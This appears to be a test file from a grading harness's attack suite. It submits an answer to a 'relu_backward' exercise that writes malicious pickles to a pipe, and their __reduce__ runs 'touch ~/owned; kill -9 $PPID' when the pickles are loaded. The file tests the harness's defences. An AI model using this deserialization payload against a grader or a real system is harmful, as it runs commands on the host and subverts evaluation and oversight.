"""Sends pickles that run a program when they are loaded, bare and as an array of objects."""

from __future__ import annotations

from tests.attacks.attack import NO_PART, Attack
from tests.attacks.finder import FIND

SOURCE = (
    FIND
    + """
import io, pickle
class Run:
    def __reduce__(self):
        return (os.system, ("touch ~/owned; kill -9 $PPID",))
def relu_backward(Z, dA):
    pipe, frames, mine = find()
    out = io.BytesIO()
    np.save(out, np.array([Run()], dtype=object), allow_pickle=True)
    os.write(pipe, pickle.dumps(Run()))
    os.write(pipe, out.getvalue())
    return np.zeros_like(Z)
"""
)
ATTACK = Attack(answers={"relu_backward": SOURCE}, no_stock=NO_PART)
